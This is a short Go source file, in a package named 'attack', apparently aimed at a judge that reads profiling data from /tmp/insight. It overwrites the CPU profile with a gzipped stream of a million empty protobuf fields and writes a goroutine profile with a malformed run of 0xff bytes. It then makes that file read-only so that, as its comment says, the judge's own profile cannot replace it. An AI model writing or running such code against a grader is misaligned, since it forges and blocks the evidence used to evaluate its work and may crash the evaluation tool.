package attack

import (
	"bytes"
	"compress/gzip"
	"os"
	"time"
)

func Run() {
	write("/tmp/insight/cpu", bytes.Repeat([]byte{2<<3 | 2, 0}, 1_000_000))
	write("/tmp/insight/goroutine", append([]byte{9 << 3}, bytes.Repeat([]byte{0xff}, 1<<16)...))
	// The judge's own profile cannot be written over it.
	os.Chmod("/tmp/insight/goroutine", 0o400)
	time.Sleep(10 * time.Millisecond)
}

func write(name string, content []byte) {
	os.Remove(name)
	file, _ := os.Create(name)
	packed := gzip.NewWriter(file)
	packed.Write(content)
	packed.Close()
	file.Close()
}
